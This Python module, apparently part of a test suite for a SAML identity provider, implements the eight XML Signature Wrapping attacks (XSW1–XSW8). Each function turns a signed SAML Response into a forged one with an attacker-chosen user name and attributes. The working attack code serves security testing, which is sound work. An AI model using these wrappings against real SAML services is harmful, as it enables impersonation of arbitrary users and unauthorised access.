"""Signature wrapping (XSW1 to XSW8): the signed piece is moved and an evil one takes its place.

The names and the moves are those of SAML Raider, after Somorovsky et al., "On Breaking SAML: Be
Whoever You Want to Be" (2012). XSW1 and XSW2 wrap a signed Response, the others a signed Assertion.
"""

from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass, field

from lxml import etree

from tests.identity_provider.vocabulary import ds, find, find_first, parse, saml, samlp, write

RESPONSE_ID = "_evil_response"
ASSERTION_ID = "_evil_assertion"


@dataclass(frozen=True, kw_only=True)
class Evil:
    """Who an attacker wants to be: a name, and attributes that are changed or added."""

    name_id: str
    attributes: Mapping[str, tuple[str, ...]] = field(default_factory=dict)


Attack = Callable[[bytes, Evil], bytes]


def make_evil(element: etree._Element, evil: Evil) -> etree._Element:
    """The element itself, a Response or an Assertion, with the attacker's wishes written in."""
    for name_id in find(element, "descendant-or-self::saml:Assertion/saml:Subject/saml:NameID"):
        name_id.text = evil.name_id
    for statement in find(element, "descendant-or-self::saml:Assertion/saml:AttributeStatement"):
        for name, values in evil.attributes.items():
            for attribute in find(statement, "saml:Attribute"):
                if attribute.get("Name") == name:
                    statement.remove(attribute)
            statement.append(saml.Attribute(*map(saml.AttributeValue, values), Name=name))
    return element


def make_evil_assertion(assertion: etree._Element, evil: Evil, **attributes: str) -> etree._Element:
    """An unsigned copy of an Assertion for the attacker; attributes such as its ID may change."""
    copy = make_evil(without_signature(assertion), evil)
    for name, value in attributes.items():
        copy.set(name, value)
    return copy


def without_signature(element: etree._Element) -> etree._Element:
    """A copy of the element without a signature of its own."""
    copy = deepcopy(element)
    copy.tail = None
    for signature in find(copy, "ds:Signature"):
        copy.remove(signature)
    return copy


def xsw1(xml: bytes, evil: Evil) -> bytes:
    """The signed Response lies in the signature of an evil Response."""
    response = parse(xml)
    signature = find_first(response, "/samlp:Response/ds:Signature")
    original = without_signature(response)
    make_evil(response, evil).set("ID", RESPONSE_ID)
    signature.append(original)
    return write(response)


def xsw2(xml: bytes, evil: Evil) -> bytes:
    """The signed Response lies before the signature in an evil Response."""
    response = parse(xml)
    signature = find_first(response, "/samlp:Response/ds:Signature")
    original = without_signature(response)
    make_evil(response, evil).set("ID", RESPONSE_ID)
    signature.addprevious(original)
    return write(response)


def xsw3(xml: bytes, evil: Evil) -> bytes:
    """An evil Assertion stands before the signed one."""
    response, assertion, _ = _take_apart(xml)
    assertion.addprevious(make_evil_assertion(assertion, evil, ID=ASSERTION_ID))
    return write(response)


def xsw4(xml: bytes, evil: Evil) -> bytes:
    """The signed Assertion lies in an evil one."""
    response, assertion, _ = _take_apart(xml)
    wrapper = make_evil_assertion(assertion, evil, ID=ASSERTION_ID)
    response.append(wrapper)
    wrapper.append(assertion)
    return write(response)


def xsw5(xml: bytes, evil: Evil) -> bytes:
    """The evil Assertion keeps the signature; the signed one, without it, comes last."""
    response, assertion, _ = _take_apart(xml)
    response.append(without_signature(assertion))
    make_evil(assertion, evil).set("ID", ASSERTION_ID)
    return write(response)


def xsw6(xml: bytes, evil: Evil) -> bytes:
    """The evil Assertion keeps the signature, and in it lies the signed one."""
    response, assertion, signature = _take_apart(xml)
    original = without_signature(assertion)
    make_evil(assertion, evil).set("ID", ASSERTION_ID)
    signature.append(original)
    return write(response)


def xsw7(xml: bytes, evil: Evil) -> bytes:
    """An evil Assertion of the same ID lies in Extensions, where any element is allowed."""
    response, assertion, _ = _take_apart(xml)
    extensions = samlp.Extensions(make_evil_assertion(assertion, evil))
    find_first(response, "samlp:Status").addprevious(extensions)
    return write(response)


def xsw8(xml: bytes, evil: Evil) -> bytes:
    """The evil Assertion keeps the signature, and in an Object of it lies the signed one."""
    response, assertion, signature = _take_apart(xml)
    original = without_signature(assertion)
    make_evil(assertion, evil).set("ID", ASSERTION_ID)
    signature.append(ds.Object(original))
    return write(response)


WRAPPINGS: dict[str, Attack] = {
    "XSW1": xsw1,
    "XSW2": xsw2,
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}
OF_RESPONSE = frozenset({"XSW1", "XSW2"})


def _take_apart(xml: bytes) -> tuple[etree._Element, etree._Element, etree._Element]:
    response = parse(xml)
    assertion = find_first(response, "/samlp:Response/saml:Assertion")
    return response, assertion, find_first(assertion, "ds:Signature")
